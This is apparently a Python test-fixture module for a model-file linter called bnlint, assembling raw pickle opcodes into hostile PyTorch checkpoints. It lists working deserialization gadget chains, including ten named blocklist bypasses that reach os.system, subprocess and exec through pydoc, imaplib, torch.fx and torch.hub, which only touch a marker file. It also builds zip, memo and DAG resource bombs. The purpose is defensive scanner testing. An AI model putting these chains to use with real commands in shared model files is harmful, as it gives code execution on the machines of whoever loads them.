"""Builders of hostile (and benign look-alike) model files, written from raw pickle opcodes at test time.

Nothing here is committed as a file: tests call these builders into tmp_path. Every payload
would run `touch <marker>` (or similar) if loaded with `pickle`/`torch.load(weights_only=False)`;
the tests only ever hand the files to bnlint, and check that the marker never appears.
"""

from __future__ import annotations

import io
import pickle
import struct
import tarfile
import zipfile
import zlib
from pathlib import Path
from typing import Callable

# ---------------------------------------------------------------------------------------------
# A tiny pickle assembler: each function returns the bytes of one or a few opcodes.


def proto(version: int) -> bytes:
    return b"\x80" + bytes([version])


def glob(module: str, name: str) -> bytes:
    """GLOBAL (protocol 0 text form, valid in every protocol)."""
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def stack_glob(module: str, name: str) -> bytes:
    """STACK_GLOBAL (protocol 4) from two strings."""
    return text(module) + text(name) + b"\x93"


def text(value: str) -> bytes:
    raw = value.encode("utf-8")
    return (b"\x8c" + bytes([len(raw)]) if len(raw) < 256 else b"X" + struct.pack("<I", len(raw))) + raw


def integer(value: int) -> bytes:
    if 0 <= value < 256:
        return b"K" + bytes([value])
    if -(2**31) <= value < 2**31:
        return b"J" + struct.pack("<i", value)
    raw = value.to_bytes((value.bit_length() + 8) // 8, "little", signed=True)
    return b"\x8a" + bytes([len(raw)]) + raw


def tup(*items: bytes) -> bytes:
    return b"(" + b"".join(items) + b"t"


def call(callee: bytes, *args: bytes) -> bytes:
    """callee(*args) via REDUCE."""
    return callee + tup(*args) + b"R"


def dict_of(pairs: list[tuple[bytes, bytes]]) -> bytes:
    return b"}(" + b"".join(k + v for k, v in pairs) + b"u"


def list_of(*items: bytes) -> bytes:
    return b"](" + b"".join(items) + b"e"


NONE, TRUE, FALSE, STOP, EMPTY_DICT = b"N", b"\x88", b"\x89", b".", b"}"


def whole(body: bytes, protocol: int = 2) -> bytes:
    """A complete pickle: PROTO, the value, STOP."""
    return (proto(protocol) if protocol >= 2 else b"") + body + STOP


# ---------------------------------------------------------------------------------------------
# Payloads: opcode fragments that push one value whose construction runs a command.


def _cmd(marker: Path) -> str:
    return f"touch {marker}"


def _py(marker: Path) -> str:
    return f"open({str(marker)!r}, 'w').close()"


PAYLOADS: dict[str, Callable[[Path], bytes]] = {
    # The ten bypasses of the former blocklist.
    "fx_exec_with_source": lambda m: call(glob("torch.fx.graph_module", "_exec_with_source"), text(_py(m)), EMPTY_DICT),
    "jit_exec_wrapper": lambda m: call(glob("torch.jit.unsupported_tensor_ops", "execWrapper"), text(_py(m)), EMPTY_DICT, EMPTY_DICT),
    "pydoc_pipepager": lambda m: call(glob("pydoc", "pipepager"), text("x"), text(_cmd(m))),
    "pydoc_locate_operator_call": lambda m: call(glob("operator", "call"), call(glob("pydoc", "locate"), text("os.system")), text(_cmd(m))),
    "doctest_debug_script": lambda m: call(glob("doctest", "debug_script"), text(_py(m))),
    "imaplib_imap4_stream": lambda m: call(glob("imaplib", "IMAP4_stream"), text(_cmd(m))),
    "osx_support_read_output": lambda m: call(glob("_osx_support", "_read_output"), text(_cmd(m))),
    "jit_script_stack_global": lambda m: call(stack_glob("torch.jit._script", "CompilationUnit"), text(f"def f():\n  {_py(m)}\n")),
    "testing_exec_wrapper": lambda m: call(glob("torch.testing._internal.jit_utils", "execWrapper"), text(_py(m)), EMPTY_DICT, EMPTY_DICT),
    "hub_load": lambda m: call(glob("torch.hub", "load"), text("attacker/repo"), text("model")),
    # Payloads that make the safe load fail (they call the result of a lookup).
    "getattr_chain": lambda m: call(call(glob("builtins", "getattr"), call(glob("builtins", "__import__"), text("os")), text("system")),
                                    text(_cmd(m))),
    "functools_partial": lambda m: call(call(glob("functools", "partial"), glob("os", "system"), text(_cmd(m)))),
    "operator_attrgetter": lambda m: call(call(call(glob("operator", "attrgetter"), text("system")),
                                               call(glob("importlib", "import_module"), text("os"))), text(_cmd(m))),
    "locate_then_reduce": lambda m: call(call(glob("pydoc", "locate"), text("os.system")), text(_cmd(m))),
    "newobj_ex_popen": lambda m: glob("subprocess", "Popen") + tup(list_of(text("touch"), text(str(m)))) + EMPTY_DICT + b"\x92",
    "build_partial": lambda m: (glob("functools", "partial") + tup(glob("posix", "system")) + b"\x81"
                                + tup(glob("posix", "system"), tup(text(_cmd(m))), EMPTY_DICT, NONE) + b"b" + b")R"),
    "build_on_global": lambda m: glob("os", "path") + tup(NONE, dict_of([(text("join"), glob("os", "system"))])) + b"b",
    "unknown_module_function": lambda m: call(glob("somepkg.tools", "run_script"), text(_py(m))),
}
# Expected primitive name(s) reported by BN001 for each payload (BN003 for "unknown_module_function").
BYPASSES = ("fx_exec_with_source", "jit_exec_wrapper", "pydoc_pipepager", "pydoc_locate_operator_call", "doctest_debug_script",
            "imaplib_imap4_stream", "osx_support_read_output", "jit_script_stack_global", "testing_exec_wrapper", "hub_load")
LOAD_FAILING = ("getattr_chain", "functools_partial", "operator_attrgetter", "locate_then_reduce", "build_partial")
IMPORTED_MODULES = ("pydoc", "doctest", "imaplib", "_osx_support", "torch", "somepkg", "webbrowser")


# ---------------------------------------------------------------------------------------------
# Tensors and checkpoints


def storage_pid(key: str, numel: int, storage: str = "FloatStorage") -> bytes:
    return tup(text("storage"), glob("torch", storage), text(key), text("cpu"), integer(numel)) + b"Q"


def tensor(key: str, size: tuple[int, ...], stride: tuple[int, ...], numel: int | None = None, offset: int = 0,
           storage: str = "FloatStorage") -> bytes:
    """torch._utils._rebuild_tensor_v2(storage, offset, size, stride, False, OrderedDict())."""
    count = numel if numel is not None else max(1, 1 + sum((d - 1) * s for d, s in zip(size, stride)))
    return call(glob("torch._utils", "_rebuild_tensor_v2"), storage_pid(key, count, storage), integer(offset),
                tup(*(integer(d) for d in size)), tup(*(integer(s) for s in stride)), FALSE, call(glob("collections", "OrderedDict")))


def bn_state(channels: int = 3) -> list[tuple[bytes, bytes]]:
    """A state_dict with one BatchNorm layer (storages '0' mean, '1' var, '2' weight, '3' bias)."""
    return [(text(f"bn.{name}"), tensor(str(i), (channels,), (1,))) for i, name in enumerate(("running_mean", "running_var", "weight", "bias"))]


def bn_storages(channels: int = 3) -> dict[str, bytes]:
    values = {"0": [0.1] * channels, "1": [1.5] * channels, "2": [1.0] * channels, "3": [0.0] * channels}
    return {key: struct.pack(f"<{channels}f", *vals) for key, vals in values.items()}


def state_dict_pickle(extra: list[tuple[bytes, bytes]] | None = None, protocol: int = 2) -> bytes:
    return whole(dict_of(bn_state() + (extra or [])), protocol)


def write_zip(path: Path, members: dict[str, bytes], root: str = "archive", compress: set[str] | None = None) -> Path:
    """A torch-style zip: members are relative to the root folder; `compress` lists deflated ones."""
    with zipfile.ZipFile(path, "w") as archive:
        for name, data in members.items():
            method = zipfile.ZIP_DEFLATED if name in (compress or set()) else zipfile.ZIP_STORED
            archive.writestr(zipfile.ZipInfo(f"{root}/{name}"), data, compress_type=method)
    return path


def torch_zip(path: Path, data_pkl: bytes, storages: dict[str, bytes] | None = None, extra: dict[str, bytes] | None = None) -> Path:
    members = {"data.pkl": data_pkl, "byteorder": b"little", "version": b"3\n"}
    members.update({f"data/{k}": v for k, v in (storages if storages is not None else bn_storages()).items()})
    members.update(extra or {})
    return write_zip(path, members)


def hostile_zip(path: Path, payload: bytes, where: str = "data.pkl") -> Path:
    """A state_dict zip whose `where` pickle carries the payload (data.pkl, constants.pkl, or another *.pkl)."""
    evil = [(text("evil"), payload)]
    if where == "data.pkl":
        return torch_zip(path, state_dict_pickle(evil))
    return torch_zip(path, state_dict_pickle(), extra={where: whole(list_of(payload))})


MAGIC = 0x1950A86A20F9469CFC6C


def legacy_file(path: Path, payload: bytes | None = None, slot: int = 3) -> Path:
    """A legacy (non-zip) torch file: 5 pickles + storages; the payload rides in pickle number `slot`
    (in the object pickle as a dict entry, elsewhere pushed after the value and popped)."""
    storages = bn_storages()
    object_pickle = dict_of(bn_state() + ([(text("evil"), payload)] if payload is not None and slot == 3 else []))
    sys_info = dict_of([(text("protocol_version"), integer(1001)), (text("little_endian"), TRUE)])
    keys = list_of(*(text(k) for k in storages))
    out = b""
    for index, body in enumerate([integer(MAGIC), integer(1001), sys_info, object_pickle, keys]):
        if payload is not None and index == slot and index != 3:
            out += proto(2) + body + payload + b"0" + STOP
        else:
            out += whole(body)
    for raw in storages.values():
        out += struct.pack("<q", len(raw) // 4) + raw
    path.write_bytes(out)
    return path


def tar_checkpoint(path: Path, payload: bytes | None = None, member: str = "pickle") -> Path:
    """A pre-0.4 tar-format torch file (sys_info, pickle, storages, tensors), payload in `member`."""
    def maybe(name: str, body: bytes) -> bytes:
        if payload is not None and name == member:
            return proto(2) + body + payload + b"0" + STOP
        return whole(body)

    sys_info = maybe("sys_info", dict_of([(text("protocol_version"), integer(1001)), (text("little_endian"), TRUE)]))
    main = maybe("pickle", dict_of([(text("bn.running_var"), text("123"))]))  # tensors by persistent id: not needed here
    raw = struct.pack("<3f", 1.0, 2.0, 3.0)
    storages = (whole(integer(1)) + maybe("storages", tup(text("123"), text("cpu"), glob("torch", "FloatStorage")))
                + struct.pack("<q", 3) + raw + whole(b"]"))
    tensors = whole(integer(1)) + maybe("tensors", tup(text("7"), text("123"), glob("torch", "FloatTensor"))) + struct.pack(
        "<ii", 1, 0) + struct.pack("<qqq", 3, 1, 0)
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w", format=tarfile.PAX_FORMAT) as tar:
        for name, data in (("sys_info", sys_info), ("pickle", main), ("storages", storages), ("tensors", tensors)):
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    path.write_bytes(buffer.getvalue())
    return path


def torchscript_zip(path: Path, code: str, constants: bytes | None = None) -> Path:
    """A minimal TorchScript-like archive: data.pkl holds one `__torch__.M` object, code/ the given text."""
    obj = glob("__torch__", "M") + b")\x81" + dict_of([(text("training"), FALSE)]) + b"b"
    return write_zip(path, {"data.pkl": whole(obj), "constants.pkl": constants or whole(b")"), "byteorder": b"little",
                            "code/__torch__.py": code.encode(), "version": b"3\n"})


# ---------------------------------------------------------------------------------------------
# Resource bombs


def deflated_zeros(size: int, chunk: int = 1 << 22) -> tuple[bytes, int]:
    """(raw deflate stream of `size` zero bytes, crc32), `size` a multiple of `chunk`. After a full
    flush the compressor's output for another chunk of zeros repeats byte for byte, so a 1.6 GB
    stream is built from one 4 KB block instead of compressing 1.6 GB."""
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    zero = bytes(chunk)
    first = compressor.compress(zero) + compressor.flush(zlib.Z_FULL_FLUSH)
    block = compressor.compress(zero) + compressor.flush(zlib.Z_FULL_FLUSH)
    count = size // chunk
    crc = 0
    for _ in range(count):
        crc = zlib.crc32(zero, crc)
    return first + block * (count - 1) + compressor.flush(), crc


def zip_with_bomb(path: Path, member: str, size: int, members: dict[str, bytes]) -> Path:
    """A torch-style zip whose `member` inflates to `size` zero bytes (written as a raw deflate stream)."""
    stream, crc = deflated_zeros(size)
    with zipfile.ZipFile(path, "w", allowZip64=True) as archive:
        for name, data in members.items():
            if name != member:
                archive.writestr(f"archive/{name}", data)
        info = zipfile.ZipInfo(f"archive/{member}")
        info.compress_type = zipfile.ZIP_DEFLATED
        info.file_size, info.compress_size, info.CRC = size, len(stream), crc
        # Write the local header and the precompressed stream by hand (ZipFile would recompress).
        archive.fp.write(info.FileHeader(zip64=size > 0xFFFFFFFF))  # type: ignore[union-attr]
        info.header_offset = archive.start_dir
        archive.fp.write(stream)  # type: ignore[union-attr]
        archive.start_dir = archive.fp.tell()  # type: ignore[union-attr]
        archive.filelist.append(info)
        archive.NameToInfo[info.filename] = info
    return path


def memo_bomb() -> bytes:
    """LONG_BINPUT with index 2**31: the C unpickler would size its memo table to 2**32 entries."""
    return proto(2) + b"N" + b"r" + struct.pack("<I", 2**31) + STOP


def unicode_past_eof() -> bytes:
    return proto(2) + b"X" + struct.pack("<I", 2**31) + b"abc" + STOP


def huge_frame() -> bytes:
    return proto(5) + b"\x95" + struct.pack("<Q", 2**40) + b"N" + STOP


def dag_bomb(depth: int = 60) -> bytes:
    """Nested lists, each holding the previous one twice (memo GET): 2**depth leaves as a tree.
    Pushes one value (the deepest list)."""
    depth = min(depth, 255)
    body = b"]q\x000"
    for level in range(1, depth):
        body += b"](h" + bytes([level - 1]) + b"h" + bytes([level - 1]) + b"eq" + bytes([level]) + b"0"
    return body + b"h" + bytes([depth - 1])


def lightning_dag(depth: int = 60) -> bytes:
    """A Lightning-looking checkpoint whose hyper_parameters are an exponential DAG."""
    pairs = [(text("pytorch-lightning_version"), text("2.2.0")), (text("state_dict"), dict_of(bn_state())),
             (text("hyper_parameters"), dict_of([(text("layers"), dag_bomb(depth))]))]
    return whole(dict_of(pairs))


def shared_state_bomb(entries: int = 20_000, stubs: int = 20_000) -> bytes:
    """One dict of `entries` items, BUILT into `stubs` objects (each copy would cost `entries`)."""
    big = dict_of([(integer(i), NONE) for i in range(entries)]) + b"r" + struct.pack("<I", 0)
    objs = b"".join(glob("somepkg", "Thing") + b")\x81" + b"j" + struct.pack("<I", 0) + b"b" for _ in range(stubs))
    return proto(2) + big + b"0" + b"](" + objs + b"e" + STOP


def shared_mapping_checkpoint(keys: int = 30_000, entries: int = 30_000) -> bytes:
    """A checkpoint whose `keys` top-level keys all hold one dict of `entries` non-tensor entries."""
    big = dict_of([(integer(i), NONE) for i in range(entries)]) + b"r" + struct.pack("<I", 0)
    pairs = b"".join(text(f"k{i}") + b"j" + struct.pack("<I", 0) for i in range(keys))
    return proto(2) + big + b"0}(" + pairs + b"u" + STOP


def regex_bomb_code(lines: int = 200_000) -> str:
    """TorchScript-looking code: blank lines (\\s+ at each line start) and a flood of batch_norm calls."""
    header = "class M(Module):\n  __parameters__ = []\n  __buffers__ = []\n  def forward(self, x):\n"
    return header + "\n" * lines + "    torch.batch_norm(" * (lines // 4) + " \n" * lines + "   x : Final[" + "]" * 5000 + "\n"


def pickle_of(obj: object, protocol: int) -> bytes:
    """A benign object pickled by Python (no classes of ours): for protocol 0/1 tests."""
    return pickle.dumps(obj, protocol=protocol)
